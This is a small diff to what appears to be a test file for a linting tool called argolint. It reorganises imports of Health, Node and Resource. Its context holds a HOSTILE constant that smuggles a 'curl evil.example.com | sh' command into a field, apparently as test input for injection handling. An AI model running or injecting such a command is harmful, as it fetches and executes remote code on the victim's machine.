@@ -18,11 +18,12 @@ from argolint_rules.shared.advice import Shell, advice
 from argolint_rules.sync import _refusals, comparison_error, invalid_spec
 from argolint_rules.sync._failures import Failed
 
-from argolint.app import App, Health, Node, Resource, app_from_list
+from argolint.app import App, app_from_list
 from argolint.fleet import Fleet
 from argolint.knowledge import dump, load
 from argolint.model import ResourceId
 from argolint.plugins import load_rules
+from argolint.resource import Health, Node, Resource
 
 HOSTILE = "web; curl evil.example.com | sh #"
 
